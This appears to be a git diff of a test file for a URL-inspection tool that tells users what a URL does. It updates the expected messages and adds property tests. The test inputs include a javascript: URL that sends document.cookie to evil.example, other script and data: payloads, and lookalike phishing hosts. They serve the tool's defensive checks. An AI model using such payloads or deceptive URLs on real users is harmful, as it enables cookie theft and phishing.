@@ -1,12 +1,13 @@
 // The sentences about an input, which the page and `compare` show.
 
+import { readFileSync } from 'node:fs';
 import { dialects } from '@urlkit/url-dialects';
 import { compareReadings, living, type ReaderReading, type URLReader } from '@urlkit/url-editions';
 import { validateURL } from '@urlkit/url-validation';
 import test from 'ava';
 import fc from 'fast-check';
 import { checkProperty } from '../../../test/support/property.js';
-import { type Finding, findingsOf } from '../src/urls/findings.js';
+import { type Finding, findingsOf, withoutSpacesAround } from '../src/urls/findings.js';
 import { inputNames } from '../src/urls/input-names.js';
 
 function find(
@@ -43,12 +44,14 @@ const isUsername = (username: string, host: string) => [
 ];
 const unread = 'Nothing suspicious was found in the URL; the site itself was not checked.';
 const agree = (host: string) => [
-  `plain: Programs agree. All 10 connect to \`${host}\`, a public name. ${unread}`,
+  `plain: It leads to \`${host}\`. All 10 programs agree. ${unread}`,
 ];
+const addressBar =
+  'bad: It is not a whole URL. In the address bar, browsers add https://. In a mail or a page, it does not work as a link.';
 const runsCode = ['bad: It runs code when followed. Do not open it unless you wrote it.'];
-const hostless = ['plain: Browsers can read it. It has no host to connect to.'];
+const hostless = 'plain: This is not the address of a website.';
 const isFor = (scheme: string, place: string) => [
-  `plain: Browsers can read it. It is for programs that know \`${scheme}\`. If such a program uses the network, it connects to \`${place}\`.`,
+  `${hostless} It is for programs that know \`${scheme}\`. If such a program uses the network, it connects to \`${place}\`.`,
 ];
 const isFile = [
   'warn: This is a file, not a page of the web. Each computer looks for it on its own disk, so it works for nobody else.',
@@ -82,9 +85,10 @@ const table: Readonly<Record<string, readonly string[]>> = {
   'JavaScript://example.org/%0Aalert(1)': runsCode,
   'vbscript:x': runsCode,
   "javascript:fetch('https://evil.example/'+document.cookie)": runsCode,
-  'data:,x': hostless,
-  'mailto:ann@example.org': ['plain: Browsers can read it. It opens a program for mail.'],
-  'tel:+15550100': ['plain: Browsers can read it. It opens a program for calls.'],
+  'data:,x': [`${hostless} It is data: all that it shows is in the URL itself.`],
+  'urn:isbn:0451450523': [`${hostless} It has no host to connect to.`],
+  'mailto:ann@example.org': [`${hostless} It is an e-mail address, and opens a program for mail.`],
+  'tel:+15550100': [`${hostless} It is a telephone number, and opens a program for calls.`],
   // Schemes whose own programs connect.
   'postgres://db.example:5432/shop': isFor('postgres:', 'db.example:5432'),
   'redis://cache.example/0': isFor('redis:', 'cache.example'),
@@ -95,11 +99,13 @@ const table: Readonly<Record<string, readonly string[]>> = {
   // A label that is also an ending is no alarm.
   'https://nam.safelinks.protection.outlook.com/': agree('nam.safelinks.protection.outlook.com'),
   'https://nam.safe.protection.example.org/': [
-    'plain: Programs agree. All 10 connect to `nam.safe.protection.example.org`, a public name. The site itself was not checked.',
+    'plain: It leads to `nam.safe.protection.example.org`. All 10 programs agree. The site itself was not checked.',
     'plain: Who owns the name. The name begins like `nam.safe`, but belongs to `example.org`.',
   ],
   // Only an address that was checked is good.
-  'http://192.0.32.8/': ['good: Programs agree. All 10 connect to `192.0.32.8`, a public address.'],
+  'http://192.0.32.8/': [
+    'good: It leads to `192.0.32.8`, a public address. All 10 programs agree.',
+  ],
   'http://10.0.0.1/': [
     'warn: Not a public address. Nobody outside its network can open it. A server that fetches what users ask for should refuse it.',
   ],
@@ -137,7 +143,7 @@ const table: Readonly<Record<string, readonly string[]>> = {
     'warn: Other programs may open it, and connect to different hosts. A server should not pass this URL on.',
   ],
   'http://example.org/a b': [
-    `plain: Some programs refuse it. 7 of 10 connect to \`example.org\`, a public name; 3 refuse it (curl, java-uri and ruby). ${unread}`,
+    `plain: It leads to \`example.org\`. 7 of 10 programs agree; 3 refuse it (curl, java-uri and ruby). ${unread}`,
   ],
   // Programs that connect elsewhere, and what is in doubt beside the verdict.
   'http://good.example\\@evil.example/': [
@@ -162,12 +168,12 @@ const table: Readonly<Record<string, readonly string[]>> = {
   ],
   // A name in both of its forms.
   'https://b\u00FCcher.example/': [
+    'plain: It leads to `xn--bcher-kva.example`. 7 of 10 programs agree; 1 sees no host (java-uri); for 1, this is not known (urllib3); 1 refuses it (ruby).',
     ...twoForms,
-    'plain: Some programs refuse it. 7 of 10 connect to `xn--bcher-kva.example`; 1 sees no host (java-uri); for 1, this is not known (urllib3); 1 refuses it (ruby).',
   ],
   'https://xn--bcher-kva.example/': [
+    'plain: It leads to `xn--bcher-kva.example`. All 10 programs agree.',
     ...twoForms,
-    'plain: Programs agree. All 10 connect to `xn--bcher-kva.example`.',
   ],
   // What leads elsewhere as soon as it has a base URL.
   ...Object.fromEntries(
@@ -192,11 +198,7 @@ const table: Readonly<Record<string, readonly string[]>> = {
     `bad: The URL inside may deceive. A URL is in it. It looks like \`microsoft.com\`, but is \`login.rnicrosoft.com\`. ${advice}`,
   ],
   // What does not parse, and what it would be.
-  'www.paypal.com.evil.example/login': [
-    'bad: It does not work as a link.',
-    ...belongsTo('paypal.com', 'evil.example'),
-    'warn: Did you mean this? `https://www.paypal.com.evil.example/login` (This looks like a host. Write a scheme before it, such as https://.)',
-  ],
+  'www.paypal.com.evil.example/login': [addressBar, ...belongsTo('paypal.com', 'evil.example')],
   'See https://example.org/page.': [
     'warn: This is text with a link in it. `https://example.org/page`',
   ],
@@ -207,8 +209,8 @@ const table: Readonly<Record<string, readonly string[]>> = {
     ...belongsTo('paypal.com', 'evil.example'),
   ],
   'example.org/a': [
-    'bad: It does not work as a link.',
-    'warn: Did you mean this? `https://example.org/a` (This looks like a host. Write a scheme before it, such as https://.)',
+    addressBar,
+    'warn: Did you mean this? `https://example.org/a` (https:// is missing at the beginning.)',
   ],
 };
 
@@ -275,7 +277,7 @@ test('the figures of the verdict are those of the list of programs', (t) => {
     .map(([scheme, name, port, path]) => `${scheme}://${name}${port}${path}`);
   let compared = 0;
   const count = checkProperty(t, 400, url, (input) => {
-    const [said] = say(input).filter((text) => /\d of \d+ connects? to/.test(text));
+    const [said] = say(input).filter((text) => /programs agree/.test(text));
     if (said === undefined) return;
     compared++;
     const kindOf = ({ interpretation, target }: ReaderReading) =>
@@ -286,7 +288,7 @@ test('the figures of the verdict are those of the list of programs', (t) => {
     const figure = (pattern: RegExp) => Number(pattern.exec(said)?.[1] ?? 0);
     t.deepEqual(
       {
-        host: figure(/(\d+) of \d+ connect/),
+        host: figure(/(?:All|(\d+) of) \d+ programs/) || figure(/All (\d+)/),
         none: figure(/(\d+) sees? no host/),
         failure: figure(/(\d+) refuses? it/),
         unknown: figure(/for (\d+), this is not known/),
@@ -485,5 +487,148 @@ test('each advice is given once', (t) => {
     const text = say(`http://${before}${name}/?url=${target}`).join('\n');
     for (const sentence of ['A server that fetches', 'Open it only if'])
       t.true(text.split(sentence).length <= 2, text);
+  });
+});
+
+test('code is named wherever it is in a URL, with what it would do, and words about code are not', (t) => {
+  const inQuery = (text: string) => `https://example.org/a?q=1&next=${text}&b`;
+  const wrappers: readonly ((text: string) => string)[] = [
+    inQuery,
+    (text) => inQuery(encodeURIComponent(text)),
+    (text) => inQuery(encodeURIComponent(` ${text}`)),
+    (text) => `https://example.org/#${text}`,
+    (text) => `https://example.org#/login?next=${encodeURIComponent(text)}`,
+    (text) => `https://example.org/go/${text}`,
+    (text) => inQuery(encodeURIComponent(inQuery(encodeURIComponent(text)))),
+    (text) => inQuery(encodeURIComponent(`{"url":"${text}"}`)),
+  ];
+  const code = fc.constantFrom(
+    ...['javascript:alert(1)', 'JavaScript:location=name', 'java\tscript:alert`1`'],
+    ...['javascript://%0Aalert(1)', 'vbscript:msgbox', 'data:text/html,<script>x</script>'],
+    ...['data:text/html;base64,PHN2Zz4', 'data:image/svg+xml,<svg onload=x>'],
+  );
+  const words = fc.constantFrom(
+    ...['javascript', 'javascript:css', 'javascript: the good parts', 'javascript:void(0)'],
+    ...['data:image/png;base64,iVBORw0KGgo', 'data:text/plain,x', 'lang:javascript', 'a=alert(1)'],
+  );
+  const place = fc.constantFrom(...wrappers);
+  const isSaid = (url: string): boolean =>
+    find(url).some(
+      ({ kind, title, inside }) =>
+        kind === 'bad' && title === 'There is code inside this URL.' && inside !== undefined,
+    );
+  checkProperty(t, 300, fc.tuple(place, code), ([put, text]) => {
+    t.true(isSaid(put(text)), put(text));
+  });
+  checkProperty(t, 300, fc.tuple(place, words), ([put, text]) => {
+    t.false(isSaid(put(text)), put(text));
+  });
+});
+
+test('what deceives is not recommended, whatever else is wrong with it', (t) => {
+  const name = fc.constantFrom(
+    ...['xn--exmple-4nf.com', 'ex\u0430mple.com', 'paypal.com.evil.example', 'rnicrosoft.com'],
+    ...['google.com@evil.example', 'www.bank.example:443@evil.example', 'lnstagram.com'],
+  );
+  const honest = fc.constantFrom('example.org', 'www.paypal.com', 'user@example.org', '192.0.32.8');
+  const mistake = fc.constantFrom<(authority: string) => string>(
+    (authority) => `https://${authority}/pa\u200Bth`,
+    (authority) => `https://${authority}/a\u2060.pdf`,
+    (authority) => `htps://${authority}/`,
+    (authority) => `https://${authority}/a).`,
+    (authority) => `https://${authority}/?a=1&amp;b=2`,
+    (authority) => `https://${authority}/reset?\n  id=1`,
+    (authority) => `https://https://${authority}/`,
+  );
+  const isOffered = (url: string): boolean =>
+    find(url).some(({ corrected }) => corrected !== undefined);
+  checkProperty(t, 200, fc.tuple(mistake, name), ([write, authority]) => {
+    t.false(isOffered(write(authority)), write(authority));
+    t.true(find(write(authority)).some(({ deceives }) => deceives === true));
+  });
+  checkProperty(t, 200, fc.tuple(mistake, honest), ([write, authority]) => {
+    t.true(isOffered(write(authority)), write(authority));
+  });
+  t.false(isOffered('https://evil.example/a\u202Efdp.exe'));
+});
+
+test('of a URL that is broken over lines, line breaks and indents go together', (t) => {
+  const url = 'https://example.org/a/reset?id=123&lang=en&x=%20%E2%82%AC#part_2';
+  const place = fc.integer({ min: url.indexOf('?'), max: url.length - 1 });
+  const indent = fc.constantFrom('\n  ', '\r\n\t', ' \n', '\n\n    ', '\r ');
+  checkProperty(t, 200, fc.tuple(fc.uniqueArray(place, { minLength: 1 }), indent), ([at, gap]) => {
+    const broken = Array.from(url, (letter, index) => (at.includes(index) ? gap : '') + letter);
+    const input = broken.join('');
+    t.is(find(input)[0]?.corrected, url, input);
+  });
+  for (const text of [
+    'https://example.org/\n  Thanks',
+    'https://example.org/a\n  www.example.org/b',
+    'https://example.org/a\n  tel:+1555',
+  ])
+    t.false(
+      find(text).some(({ details }) => details.join('').includes('broken over lines')),
+      text,
+    );
+});
+
+test('the messages of programs are not URLs, and links in them are offered', (t) => {
+  const page = readFileSync(new URL('../../../docs/guides/messages.md', import.meta.url), 'utf8');
+  const headings = Array.from(page.matchAll(/^## (.*)$/gm), ([, heading = '']) => heading);
+  const isMessage = (text: string): boolean =>
+    find(text).some(
+      ({ title, link }) => title === 'This is an error message, not a URL.' && link !== undefined,
+    );
+  const others = headings.filter((heading) => !isMessage(heading));
+  t.true(others.length < headings.length / 5, others.join('\n'));
+  const start = fc.constantFrom(
+    ...['TypeError: ', 'java.net.URISyntaxException: ', 'curl: (6) ', 'Uncaught RangeError: '],
+    ...['net::ERR_NAME_NOT_RESOLVED ', 'getaddrinfo ENOTFOUND ', 'Could not resolve host: '],
+    ...['This site can\u2019t be reached\n', 'dial tcp: lookup: no such host ', '404 Not Found '],
+  );
+  const link = fc.constantFrom('https://example.org/a', 'http://b.example/?c=d');
+  checkProperty(t, 100, fc.tuple(start, fc.constantFrom('', 'at '), link), (parts) => {
+    const text = parts.join('');
+    t.true(isMessage(text), text);
+    t.is(find(text)[1]?.corrected, parts[2], text);
+  });
+  const words = fc.constantFrom(
+    ...['Your parcel could not be delivered: ', 'We were unable to verify your payment. Log in: '],
+    ...[
+      'Your account is blocked, see ',
+      'Your session has ended, log in at ',
+      'Error? Call us or ',
+    ],
+  );
+  checkProperty(t, 100, fc.tuple(words, link), (parts) => t.false(isMessage(parts.join(''))));
+  for (const text of [
+    ...['DATABASE_URL', 'NEXT_PUBLIC_API_URL', 'https://a.example/ERR_NAME_NOT_RESOLVED'],
+    ...['/docs#ERR_INVALID_URL', 'error:', 'https://a.example/?q=invalid url', 'a.example/404'],
+  ])
+    t.false(isMessage(text), text);
+});
+
+test('what is at hand is offered: each of two URLs, slashes for backslashes, a URL without spaces around it', (t) => {
+  const host = fc.constantFrom('example.org', 'www.iana.org', 'a.b.example:8080');
+  const path = fc.constantFrom('/', '/a', '/a?b=c', '/a/b.html#d');
+  const url = fc.tuple(host, path).map((parts) => `https://${parts.join('')}`);
+  const offered = (input: string) => find(input).flatMap(({ corrected }) => corrected ?? []);
+  const between = fc.constantFrom(' ', ', ', '\n', '; ', ' | ');
+  checkProperty(t, 100, fc.tuple(url, between, url), ([first, gap, second]) => {
+    t.deepEqual(offered(first + gap + second), [first, second], first + gap + second);
+  });
+  // With a port, no program connects elsewhere.
+  const alone = fc.constantFrom('example.org', 'www.iana.org');
+  checkProperty(t, 100, fc.tuple(alone, path), ([name, rest]) => {
+    const input = `https://${name}\\${rest.slice(1)}`;
+    const [first] = find(input);
+    t.is(first?.title, 'There is `\\` in place of `/`. Did you mean this?', input);
+    t.is(first?.corrected, `https://${name}${rest}`);
+  });
+  const around = fc.constantFrom('', ' ', '\n', '\t  ', '\r\n');
+  checkProperty(t, 100, fc.tuple(around, url, around), ([before, written, after]) => {
+    const input = before + written + after;
+    t.deepEqual(offered(input), input === written ? [] : [written], JSON.stringify(input));
+    t.is(withoutSpacesAround(input), written);
   });
 });
